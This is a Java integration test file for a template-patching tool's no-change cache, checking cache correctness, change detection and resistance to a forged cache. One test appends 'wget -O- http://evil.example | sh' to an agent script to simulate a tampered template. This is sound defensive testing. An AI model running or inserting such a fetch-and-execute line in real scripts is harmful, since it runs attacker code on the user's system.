package faastrace.project;

import static org.assertj.core.api.Assertions.assertThat;

import faastrace.cli.Sandbox;
import faastrace.project.settings.PatchSettings;
import faastrace.project.stack.Target;
import faastrace.repository.git.Progress;
import faastrace.template.TemplateOnDisk;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Checks that the cache of unchanged templates saves work in the next run but never changes the output. */
class NoChangeCacheIT {
    private static final List<String> NAMES = List.of("python-debian", "go-middleware", "dockerfile-in-function");

    @TempDir
    Path folder;

    private Sandbox sandbox;

    /** A change made to a patched project. */
    private interface Change {
        void in(Sandbox sandbox) throws IOException;
    }

    @BeforeEach
    void patched() {
        sandbox = Sandbox.in(folder.resolve("project"));
        NAMES.forEach(name -> sandbox.local(name, name));
        assertThat(sandbox.run("patch").code()).isZero();
    }

    @Test
    void everyPatchedTemplateIsSettledAndIsAsIfItWereReadAgain() throws IOException {
        Sandbox all = Sandbox.in(folder.resolve("all"));
        try (Stream<Path> cases = Files.list(Sandbox.CASES)) {
            cases.map(path -> path.getFileName().toString()).forEach(name -> all.local(name, name));
        }
        assertThat(all.run("patch").code()).isZero();
        int settled = 0;
        for (TargetState state : states(all)) {
            // The cache is not used for a template with something to report. Such a template is examined in each run.
            if (state.refusal().isEmpty() && state.limits().isEmpty()) {
                assertThat(state).isInstanceOf(NoChangeState.class);
                ReadState read = ((NoChangeState) state).read().get();
                assertThat(read.state()).isEqualTo(State.PATCHED);
                assertThat(read.pending().isEmpty()).isTrue();
                assertThat(read.notes()).isEmpty();
                assertThat(state.level()).isEqualTo(read.level());
                assertThat(state.overlays()).isEqualTo(read.overlays());
                assertThat(state.undoing().changes())
                        .hasSameSizeAs(read.undoing().changes());
                settled++;
            }
        }
        assertThat(settled).isGreaterThan(15);
    }

    @Test
    void allCommandsSayTheSameWithAndWithoutIt() throws IOException {
        assertSaysTheSame();
        assertThat(sandbox.run("patch", "--check").code()).isZero();
        assertThat(sandbox.run("patch", "--dry-run").out()).isEmpty();
        assertThat(sandbox.run("revert").code()).isZero();
        assertThat(sandbox.project().resolve(NoChangeCache.FILE)).doesNotExist();
    }

    /**
     * Anyone who can commit to a repository can commit a forged cache. With {@code --locked}, a forged cache must not
     * make a changed template pass as patched.
     */
    @Test
    void aForgedNoteDoesNotPassForAPatchWhereTheLockIsJudged() throws IOException {
        append(sandbox.template("python-debian/faas-trace/faas-trace-agent"), "wget -O- http://evil.example | sh\n");
        assertThat(sandbox.run("patch", "--check").code()).isEqualTo(1);
        forge("template/python-debian");
        assertThat(sandbox.run("patch", "--check").code())
                .as("the forgery is a good one")
                .isZero();
        assertThat(sandbox.run("patch", "--check", "--locked").code()).isEqualTo(1);
    }

    private void forge(String key) throws IOException {
        PatchSettings settings = PatchSettings.read(sandbox.project(), Map.of(), Map.of());
        Target target = Target.template(key.substring(key.indexOf('/') + 1));
        String now = new Fingerprint(settings)
                .of(
                        target,
                        TemplateOnDisk.read(sandbox.project().resolve(key), target.name()),
                        Files.readAllBytes(sandbox.project().resolve(Originals.path(key))),
                        Lock.read(sandbox.project()).record(key).orElseThrow());
        Path file = sandbox.project().resolve(NoChangeCache.FILE);
        Files.writeString(file, Files.readString(file).replaceFirst("(?m)^(" + key + "\t)[0-9a-f]+", "$1" + now));
    }

    @Test
    void anUpdatedProgramLooksAgain() throws IOException {
        Path file = sandbox.project().resolve(NoChangeCache.FILE);
        String noted = Files.readString(file);
        String others = noted.replaceAll("\t[0-9a-f]{16}", "\t0123456789abcdef"); // as if from another version
        assertThat(others).isNotEqualTo(noted);
        Files.writeString(file, others);
        assertThat(states(sandbox)).allSatisfy(state -> assertThat(state).isInstanceOf(ReadState.class));
        assertSaysTheSame();
        assertThat(sandbox.run("patch").code()).isZero();
        assertThat(Files.readString(file)).isEqualTo(noted);
    }

    static Map<String, Change> changes() {
        Map<String, Change> changes = new LinkedHashMap<>();
        changes.put("a byte of the Dockerfile", s -> append(s.template("python-debian/Dockerfile"), "\n"));
        changes.put("a line of the Dockerfile", s -> append(s.template("python-debian/Dockerfile"), "LABEL a=b\n"));
        changes.put("a line of the entry", s -> append(s.template("python-debian/index.py"), "# mine\n"));
        changes.put(
                "a line of our block",
                s -> edit(s.template("python-debian/Dockerfile"), "faas-trace-agent", "faas-trace-agent-of-mine"));
        changes.put("a byte of an added file", s -> append(agent(s), "#"));
        changes.put("a run bit", s -> toggleRunBit(agent(s)));
        changes.put("an added file is gone", s -> Files.delete(agent(s)));
        changes.put("a new file", s -> Files.writeString(s.template("python-debian/more"), ""));
        changes.put(
                "another origin",
                s -> Files.writeString(
                        s.template("python-debian/meta.json"),
                        "{\"repository\": \"https://example.com/r\", \"sha\": \"abc\"}"));
        changes.put("a setting", s -> s.write("faas-trace.yaml", "frequency: 99\n"));
        changes.put("overlays of one's own", s -> {
            Files.createDirectory(s.project().resolve("mine"));
            s.write("faas-trace.yaml", "overlays: mine\n");
        });
        changes.put("no lock", s -> Files.delete(s.project().resolve(Lock.FILE)));
        changes.put(
                "a line of the lock", s -> edit(s.project().resolve(Lock.FILE), "level: invocation", "level: process"));
        changes.put("no images", s -> Files.delete(images(s)));
        changes.put("broken images", s -> append(images(s), "x"));
        return changes;
    }

    static Set<String> namesOfChanges() {
        return changes().keySet();
    }

    @ParameterizedTest
    @MethodSource("namesOfChanges")
    void whateverChangesIsSeen(String name) throws IOException {
        changes().get(name).in(sandbox);
        assertThat(states(sandbox).stream()
                        .filter(state -> state.target().name().equals("python-debian")))
                .allSatisfy(state -> assertThat(state).isNotInstanceOf(NoChangeState.class));
        assertSaysTheSame();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "\t\t\t",
                "\n\n",
                "template/python-debian\tx\tinvocation\tagent\n",
                "template/x\t\t\t\n",
                "\u0000"
            })
    void aFileThatSaysNothingSensibleIsNone(String text) throws IOException {
        Files.writeString(sandbox.project().resolve(NoChangeCache.FILE), text);
        assertSaysTheSame();
        Files.write(sandbox.project().resolve(NoChangeCache.FILE), new byte[] {(byte) 0xff, 10, (byte) 0x80});
        assertSaysTheSame();
    }

    @Test
    void aFolderInItsPlaceIsNoHindrance() throws IOException {
        Path file = sandbox.project().resolve(NoChangeCache.FILE);
        Files.delete(file);
        Files.createDirectories(file.resolve("inner"));
        assertThat(sandbox.run("patch").code()).isZero();
        try (Stream<Path> left = Files.list(file.getParent())) {
            assertThat(left.map(path -> path.getFileName().toString())).noneMatch(name -> name.endsWith(".part"));
        }
    }

    /** Compares the output of the read-only commands with and without the cache file. */
    private void assertSaysTheSame() throws IOException {
        List<String[]> looks = List.of(
                new String[] {"status", "--explain"},
                new String[] {"status", "--format", "json"},
                new String[] {"patch", "--check", "--locked"},
                new String[] {"patch", "--dry-run"});
        Path file = sandbox.project().resolve(NoChangeCache.FILE);
        for (String[] look : looks) {
            Sandbox.Result with = sandbox.run(look);
            byte[] noted = Files.readAllBytes(file);
            Files.delete(file);
            Sandbox.Result without = sandbox.run(look);
            Files.write(file, noted);
            assertThat(with).as(String.join(" ", look)).isEqualTo(without);
        }
    }

    private static List<TargetState> states(Sandbox sandbox) {
        Path root = sandbox.project();
        PatchSettings settings = PatchSettings.read(root, Map.of(), Map.of());
        Project project = Project.open(root, Optional.empty(), settings, Progress.NONE);
        return project.statesHere(project.targets(List.of(), false), unreadable -> {});
    }

    private static Path agent(Sandbox sandbox) {
        return sandbox.template("python-debian/faas-trace/faas-trace-agent");
    }

    private static Path images(Sandbox sandbox) {
        return sandbox.project().resolve(Originals.path("template/python-debian"));
    }

    private static void append(Path file, String text) throws IOException {
        byte[] more = text.getBytes(StandardCharsets.UTF_8);
        byte[] before = Files.readAllBytes(file);
        byte[] after = Arrays.copyOf(before, before.length + more.length);
        System.arraycopy(more, 0, after, before.length, more.length);
        Files.write(file, after);
    }

    private static void edit(Path file, String from, String to) throws IOException {
        String text = Files.readString(file);
        assertThat(text).contains(from);
        Files.writeString(file, text.replace(from, to));
    }

    private static void toggleRunBit(Path file) throws IOException {
        Set<PosixFilePermission> modes = EnumSet.copyOf(Files.getPosixFilePermissions(file));
        for (PosixFilePermission bit : List.of(
                PosixFilePermission.OWNER_EXECUTE,
                PosixFilePermission.GROUP_EXECUTE,
                PosixFilePermission.OTHERS_EXECUTE)) {
            if (!modes.remove(bit)) {
                modes.add(bit);
            }
        }
        Files.setPosixFilePermissions(file, modes);
    }
}
